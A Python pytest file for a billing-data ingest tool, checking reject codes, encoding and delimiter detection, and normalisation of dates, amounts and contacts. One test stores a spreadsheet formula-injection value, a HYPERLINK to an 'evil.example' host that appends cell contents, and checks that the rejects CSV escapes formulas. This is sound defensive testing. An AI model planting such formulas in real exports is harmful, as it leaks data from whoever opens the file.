"""Each defect fixture gives exactly its reject codes, on the right line and column."""

from __future__ import annotations

from pathlib import Path

import polars as pl
import pytest

from billcx.errors import InputError
from billcx.exitcodes import ExitCode
from billcx.ingest import ingest, write_ingest

from .conftest import INGEST_DATA, rejects_of, run

# fixture -> (other files given with it, expected (line, column, code) of its rejects)
DEFECTS: dict[str, tuple[tuple[str, ...], set[tuple[int, str, str]]]] = {
    "ragged_rows.csv": ((), {(3, "", "ragged_row"), (5, "", "ragged_row")}),
    "blank_lines.csv": ((), {(5, "amount", "invalid_amount")}),
    "duplicated_header.csv": ((), {(4, "", "duplicate_header")}),
    "duplicate_ids_identical.csv": ((), {(4, "", "duplicate_identical")}),
    "duplicate_ids_conflicting.csv": (
        (),
        {(3, "invoice_id", "duplicate_conflicting"), (5, "invoice_id", "duplicate_conflicting")},
    ),
    "ambiguous_dates.csv": ((), {(2, "issue_date", "ambiguous_date"), (5, "issue_date", "invalid_date")}),
    "amounts_with_symbols.csv": ((), {(6, "amount", "amount_precision")}),
    "decimal_comma.csv": ((), set()),
    "parentheses_negative.csv": ((), set()),
    "unknown_currency.csv": ((), {(3, "currency", "unknown_currency")}),
    "due_before_issue.csv": ((), {(3, "due_date", "due_before_issue")}),
    "paid_before_issue.csv": ((), {(2, "paid_date", "paid_before_issue")}),
    "unknown_customer.csv": (("customers.csv",), {(3, "customer_id", "unknown_customer")}),
    "unknown_invoice_payment.csv": (
        ("customers.csv", "invoices.csv"),
        {
            (3, "invoice_id", "unknown_invoice"),
            (5, "customer_id", "customer_mismatch"),
            (6, "paid_at", "invalid_instant"),
        },
    ),
    "invalid_contacts.csv": (
        (),
        {(3, "email", "invalid_email"), (4, "phone", "invalid_phone"), (5, "country", "invalid_country")},
    ),
    "unknown_timezone.csv": ((), {(2, "timezone", "unknown_timezone"), (3, "timezone", "timezone_derived")}),
    "formula_cell.csv": ((), {(3, "consent_email", "invalid_bool")}),
    "multiline_cells.csv": ((), {(7, "", "ragged_row")}),
    "header_only.csv": ((), set()),
}


@pytest.mark.parametrize("fixture", sorted(DEFECTS))
def test_defect_gives_its_codes_lines_and_columns(fixture: str) -> None:
    others, expected = DEFECTS[fixture]
    result = run(*others, fixture)
    assert rejects_of(result, fixture) == expected
    for f in result.report.files:  # every row is accounted for
        assert f.rows_read == f.rows_clean + f.rows_rejected


def test_blank_lines_are_counted_not_rows() -> None:
    f = run("blank_lines.csv").report.files[0]
    assert (f.rows_read, f.blank_lines, f.rows_rejected) == (3, 2, 1)


def test_identical_duplicates_are_collapsed_and_do_not_fail_the_run() -> None:
    result = run("duplicate_ids_identical.csv")
    f = result.report.files[0]
    assert (f.rows_read, f.rows_clean, f.rows_rejected, f.duplicates_collapsed) == (4, 4, 0, 1)
    assert result.invoices["invoice_id"].to_list() == ["INV-1", "INV-2", "INV-3"]
    assert result.exit_code == ExitCode.OK


def test_amounts_with_symbols_separators_and_signs_are_exact() -> None:
    assert run("amounts_with_symbols.csv").invoices["amount"].to_list() == [123456, 9900, 1200, 100050]
    assert run("parentheses_negative.csv").invoices["amount"].to_list() == [-5000, -1200, -1200, -750]


def test_decimal_comma_is_detected_and_said() -> None:
    result = run("decimal_comma.csv")
    assert result.invoices["amount"].to_list() == [123456, 123450, -1500, 9900]
    f = result.report.files[0]
    assert (f.delimiter, f.delimiter_by) == ("semicolon", "detected")
    assert any("decimal comma detected" in n for n in f.notes)


def test_ambiguous_date_is_never_guessed_and_dayfirst_decides() -> None:
    from billcx.ingest import mapping_from_dict

    decided = run("ambiguous_dates.csv", mapping=mapping_from_dict({"defaults": {"dayfirst": True}}))
    assert rejects_of(decided, "ambiguous_dates.csv") == {(5, "issue_date", "invalid_date")}
    assert (
        decided.invoices.filter(pl.col("invoice_id") == "INV-1")["issue_date"].to_list()[0].isoformat()
        == "2024-04-03"
    )


def test_times_without_offset_need_a_zone_from_the_mapping() -> None:
    from billcx.ingest import mapping_from_dict

    plain = run("customers.csv", "invoices.csv", "unknown_invoice_payment.csv")
    message = plain.rejects.filter(pl.col("code") == "invalid_instant")["message"][0]
    assert message == (
        "paid_at: expected a timestamp as a UTC offset such as +01:00 or Z (for times without one, "
        "set naive_timezone in the mapping), found '2024-01-23 09:00'"
    )
    zoned = run(
        "customers.csv",
        "invoices.csv",
        "unknown_invoice_payment.csv",
        mapping=mapping_from_dict({"defaults": {"naive_timezone": "Europe/Paris"}}),
    )
    assert rejects_of(zoned, "unknown_invoice_payment.csv") == {
        (3, "invoice_id", "unknown_invoice"),
        (5, "customer_id", "customer_mismatch"),
    }
    paid = zoned.payments.filter(pl.col("payment_id") == "P-5")["paid_at"][0]
    assert paid.isoformat() == "2024-01-23T08:00:00+00:00"
    assert (
        "1 paid_at values had no UTC offset: read in Europe/Paris (mapping naive_timezone)"
        in zoned.report.files[2].notes
    )


def test_contacts_are_normalised_when_fixable() -> None:
    c = run("invalid_contacts.csv").customers
    assert c.select("email", "phone", "country").rows() == [
        ("Ada.Lovelace@example.com", "+14155550101", "US"),
        (None, "+33612345678", "FR"),
        ("carl@example.net", None, "DE"),
        ("dorothy@example.com", "+447400123456", None),
    ]


def test_time_zones_fixed_derived_or_emptied() -> None:
    result = run("unknown_timezone.csv")
    assert result.customers["timezone"].to_list() == [None, "Europe/Paris", "Europe/Berlin", "Europe/London"]
    notes = result.report.table("customers").notes  # type: ignore[union-attr]
    assert "timezone derived from country for 2 customers (countries with a single zone or clock)" in notes


def test_formula_cells_are_data_but_rejects_csv_is_safe(tmp_path: object) -> None:
    result = run("formula_cell.csv")
    assert result.customers["name"].to_list() == ['=HYPERLINK("http://evil.example/?x="&A1)']
    write_ingest(result, tmp_path)  # type: ignore[arg-type]
    text = (tmp_path / "rejects.csv").read_text()  # type: ignore[operator]
    assert ",'=1+1," in text and ",=1+1," not in text


@pytest.mark.parametrize(
    ("fixture", "encoding", "by"),
    [
        ("utf16.csv", "utf-16-le", "BOM"),
        ("cp1252.csv", "cp1252", "detected"),
        ("bom_utf8.csv", "utf-8", "BOM"),
    ],
)
def test_encodings_are_read_and_reported(fixture: str, encoding: str, by: str) -> None:
    result = run(fixture)
    f = result.report.files[0]
    assert (f.encoding, f.encoding_by, f.rows_rejected) == (encoding, by, 0)
    assert result.customers["name"][0].startswith("Zoë Ærøskøbing")
    assert result.customers["city"].to_list() == ["Málaga", "Zürich"]


def test_encoding_flag_wins_over_detection() -> None:
    from billcx.ingest import IngestSettings

    f = run("cp1252.csv", settings=IngestSettings(encoding="latin-1")).report.files[0]
    assert (f.encoding, f.encoding_by) == ("latin-1", "flag")


@pytest.mark.parametrize(
    ("fixture", "name"), [("semicolon.csv", "semicolon"), ("tab.tsv", "tab"), ("pipe.txt", "pipe")]
)
def test_delimiters_are_detected(fixture: str, name: str) -> None:
    result = run(fixture)
    assert (result.report.files[0].delimiter, result.report.files[0].delimiter_by) == (name, "detected")
    assert result.customers["name"].to_list() == ["Ada Lovelace", "Blaise Pascal"]


@pytest.mark.parametrize(
    ("fixture", "message"),
    [
        ("empty.csv", "empty.csv: the file is empty; expected a header line and data rows"),
        ("binary_garbage.csv", "binary_garbage.csv: not a text table: binary data at byte 143"),
        (
            "missing_required_column.csv",
            "missing_required_column.csv: missing required invoices column due_date "
            "(closest found: 'DueDt'); found 'invoice_id', 'customer_id', 'issue_date', 'DueDt', 'amount', "
            "'currency'",
        ),
    ],
)
def test_unusable_files_are_clear_input_errors(fixture: str, message: str) -> None:
    with pytest.raises(InputError) as info:
        run(fixture)
    assert info.value.message.endswith(message)
    assert info.value.exit_code == ExitCode.DATA


def test_header_only_is_an_empty_table_not_an_error() -> None:
    result = run("header_only.csv")
    assert (result.invoices.height, result.customers.height, result.exit_code) == (0, 0, ExitCode.OK)


def test_parquet_and_xlsx_inputs(tmp_path: object) -> None:
    import xlsxwriter

    base = pl.read_csv(INGEST_DATA / "invoices.csv", infer_schema=False)
    pq = tmp_path / "invoices.parquet"  # type: ignore[operator]
    base.with_columns(pl.col("issue_date").str.to_date()).write_parquet(pq)
    xlsx = tmp_path / "customers.xlsx"  # type: ignore[operator]
    wb = xlsxwriter.Workbook(str(xlsx))
    ws = wb.add_worksheet("clients")
    ws.write_row(2, 0, ["customer_id", "name", "country"])  # two empty rows above the header
    ws.write_row(3, 0, ["C001", "Ada Lovelace", "US"])
    ws.write_row(5, 0, ["C002", "Blaise Pascal", "Narnia"])  # a blank row above it
    ws.write_row(6, 0, ["C003", "Carl Gauss", "DE"])
    ws.write_row(7, 0, ["C004", "Dorothy Hodgkin", "GB"])
    wb.close()
    from billcx.ingest import ingest

    result = ingest([pq, xlsx])
    assert result.invoices["amount"].to_list() == [12000, 8050, -1500, 9999]
    assert rejects_of(result, "customers.xlsx") == {(6, "country", "invalid_country")}
    assert [f.format for f in result.report.files] == ["parquet", "xlsx"]


def test_invoice_export_alone_derives_customers_with_what_it_carries(tmp_path: Path) -> None:
    path = tmp_path / "ar.csv"
    path.write_text(
        "invoice_id,customer_id,issue_date,due_date,amount,currency,E-mail\n"
        "INV-1,C001,2024-01-05,2024-02-04,120.00,USD,old@example.com\n"
        "INV-2,C001,2024-02-05,2024-03-04,80.00,USD, New@Example.COM\n"
        "INV-3,C002,2024-02-06,2024-03-05,10.00,USD,\n"
    )
    result = ingest([path])
    assert result.customers.select("customer_id", "email").rows() == [
        ("C001", "New@example.com"),
        ("C002", None),
    ]
    report = result.report.table("customers")
    assert report is not None and report.derived
    assert report.notes[0] == (
        "no customers export: 2 customers derived from invoices (from each customer's latest invoice: email)"
    )
    assert result.report.files[0].matched_by["E-mail"] == "alias"
